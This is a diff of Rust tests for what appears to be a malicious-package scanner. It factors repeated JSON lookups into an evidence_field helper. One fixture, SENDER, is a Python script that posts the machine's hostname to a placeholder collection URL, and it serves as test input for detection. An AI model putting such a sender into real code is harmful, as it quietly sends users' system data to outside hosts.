@@ -25,6 +25,22 @@ fn scan(root: &Path) -> Value {
     serde_json::from_slice(&output.stdout).unwrap()
 }
 
+/// `field` of every evidence item of the reported file whose path ends with `suffix`.
+fn evidence_field(report: &Value, suffix: &str, field: &str) -> Vec<String> {
+    let file = report["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"].as_str().unwrap().ends_with(suffix))
+        .unwrap_or_else(|| panic!("no reported file ends with {suffix}: {report}"));
+    file["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e[field].as_str().unwrap().to_owned())
+        .collect()
+}
+
 const SENDER: &str = "import socket, requests\n\ndef send(url):\n    host = socket.gethostname()\n    requests.post(url, json={'h': host})\n\ndef main():\n    send('https://example.invalid/collect')\n\nif __name__ == '__main__':\n    main()\n";
 
 #[test]
@@ -43,19 +59,8 @@ fn module_run_with_python_m_from_an_install_hook_runs_at_install() {
         ],
     );
     let report = scan(&root);
-    let file = report["files"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|f| f["path"].as_str().unwrap().ends_with("pkg/report.py"))
-        .unwrap();
-    let contexts: Vec<&str> = file["evidence"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|e| e["context"].as_str().unwrap())
-        .collect();
-    assert!(contexts.contains(&"install"), "{contexts:?}");
+    let contexts = evidence_field(&report, "pkg/report.py", "context");
+    assert!(contexts.iter().any(|c| c == "install"), "{contexts:?}");
 }
 
 #[test]
@@ -168,18 +173,7 @@ fn values_imported_from_a_sibling_module_fold_in_the_importer() {
     let root = dir.path().join("tt-1.0");
     write_package(&root, &SPLIT_SENDER);
     let report = scan(&root);
-    let sender = report["files"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|f| f["path"].as_str().unwrap().ends_with("tt/send.py"))
-        .unwrap();
-    let messages: Vec<&str> = sender["evidence"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|e| e["message"].as_str().unwrap())
-        .collect();
+    let messages = evidence_field(&report, "tt/send.py", "message");
     assert!(
         messages
             .iter()
